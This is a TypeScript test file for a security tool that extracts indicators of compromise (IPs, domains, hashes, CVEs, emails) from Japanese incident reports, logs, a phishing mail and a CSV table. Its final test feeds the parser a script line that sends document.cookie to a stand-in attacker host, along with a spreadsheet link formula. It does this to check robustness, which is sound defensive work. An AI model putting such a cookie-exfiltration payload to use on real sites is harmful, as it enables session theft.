// SPDX-License-Identifier: Apache-2.0
/** Whole documents as they come in: a report in Japanese, a log, a mail, a table, a hostile text. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readIndicators } from '../../../src/engine/indicators/index.ts';

function check(text: string, expected: readonly string[]): void {
  const { indicators } = readIndicators(text, { hostsOfUrls: false });
  const found = indicators.map(
    (one) => `${one.type} ${one.value}${one.confidence === 'doubtful' ? ' ?' : ''}`,
  );
  assert.deepEqual(found.sort(), [...expected].sort());
}

const MD5 = '0cc175b9c0f1b6a831c399e269772661';
const SHA256 = 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb';

test('a first report in Japanese prose', () => {
  check(
    `【第一報】令和8年11月21日（土）9時30分頃、VPN装置（Example Gate 100、バージョン7.4.2.1）の脆弱性
（CVE－2024－12345）を悪用され、攻撃元１９８．５１．１００．２３及び203.0.113[.]77から侵入されました。
その後、C2サーバー「update-check[.]example[.]net」（接続先ポート：8443）へのhxxps通信を確認。
・不審ファイル：C:\\ProgramData\\svchost.exe（SHA256：${SHA256}）
・ランサムノート：README.txt、拡張子「.locked7」
・連絡先は recover@example.org 又は http://leak.example.com/?id=１２３ とのことです。
社内ネットワーク192.0.2.0/24の3台が暗号化。担当 taro.yamada@hospital.example.jp（内線12-34-56）。`,
    [
      'cve CVE-2024-12345',
      'ipv4 198.51.100.23',
      'ipv4 203.0.113.77',
      'domain update-check.example.net',
      `sha256 ${SHA256}`,
      'email recover@example.org',
      'url http://leak.example.com/?id=123',
      'email taro.yamada@hospital.example.jp',
    ],
  );
});

test('lines of logs: times, ports, versions and numbers of processes are no indicators', () => {
  check(
    `Nov 21 09:30:12 gw sshd[12345]: Failed password for root from 203.0.113.5 port 51234 ssh2
198.51.100.7 - - [21/Nov/2026:09:30:12 +0900] "GET /cgi-bin/test.cgi?x=1 HTTP/1.1" 404 162 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.6099.71 curl/7.88.1"
2026-11-21T00:30:12.123Z fw1 action=deny src=2001:db8::bad dst=192.0.2.9 sport=443 mac=aa:bb:cc:dd:ee:ff
{"timestamp":"2026-11-21T00:30:12","src_ip":"203.0.113.6","dns":{"rrname":"c2.example.com"},"flow_id":1234567890123456,"uuid":"3f2504e0-4f89-11d3-9a0c-0305e82c3301"}
kernel: [12345.678901] IN=eth0 SRC=203.0.113.8 DST=192.0.2.9 LEN=40 TTL=52 ID=54321
systemd[1]: Started app@tty1.service - version 2.10.3.4 (org.example.gateway.main)`,
    [
      'ipv4 203.0.113.5',
      'ipv4 198.51.100.7',
      'ipv6 2001:db8::bad',
      'ipv4 192.0.2.9',
      'ipv4 203.0.113.6',
      'domain c2.example.com',
      'ipv4 203.0.113.8',
    ],
  );
});

test('a mail with its headers', () => {
  check(
    `Received: from mx.example.net (mx.example.net [203.0.113.25]) by mail.example.co.jp
Message-ID: <20261121093012.ABCDEF@mx.example.net>
From: "=?ISO-2022-JP?B?GyRCRW88VBsoQg==?=" <billing@example.net>
To: info@example.co.jp
Subject: =?UTF-8?B?6KuL5rGC5pu4?=
Content-Type: multipart/mixed; boundary="----=_Part_1.2.3.4"

請求書はこちら→https://example.org/d/請求書.zip
<a href="http://198.51.100.7/login?u=info%40example.co.jp">www.bank.example.jp</a>
添付: invoice.pdf.exe (MD5 ${MD5})`,
    [
      'domain mx.example.net',
      'ipv4 203.0.113.25',
      'domain mail.example.co.jp',
      'email billing@example.net',
      'email info@example.co.jp',
      'url https://example.org/d/',
      'url http://198.51.100.7/login?u=info%40example.co.jp',
      'domain www.bank.example.jp',
      `md5 ${MD5}`,
    ],
  );
});

test('a table of indicators as offices exchange it', () => {
  check(
    `種別,値,初認日,備考
IPアドレス,203[.]0[.]113[.]5,2026/11/20,C2
ドメイン,evil[.]example[.]com,2026/11/20,"ポート443、8080"
URL,hxxp://evil[.]example[.]com/a.php,2026/11/21,
ハッシュ（MD5）,${MD5.toUpperCase()},2026/11/21,
メール,phish[@]example[.]org,2026/11/21,差出人
脆弱性,CVE-2024-12345,2026/11/21,バージョン 1.2.3.4 未満`,
    [
      'ipv4 203.0.113.5',
      'domain evil.example.com',
      'url http://evil.example.com/a.php,2026/11/21',
      `md5 ${MD5}`,
      'email phish@example.org',
      'cve CVE-2024-12345',
    ],
  );
});

test('a hostile text: markup, formulas, turning characters and endless words do no harm', () => {
  check(
    `<script>fetch('https://evil.example.com/'+document.cookie)</script>
=HYPERLINK("http://evil.example.com/x","198.51.100.7")
\u202Emoc.elpmaxe\u202C and exa\u00ADmple.org \u0000203.0.113.5\u0007
${'a'.repeat(20_000)}.example.com ${'1.'.repeat(20_000)} ${'['.repeat(20_000)}`,
    [
      'url https://evil.example.com/',
      'url http://evil.example.com/x',
      'ipv4 198.51.100.7',
      'domain example.org',
      'ipv4 203.0.113.5',
    ],
  );
});
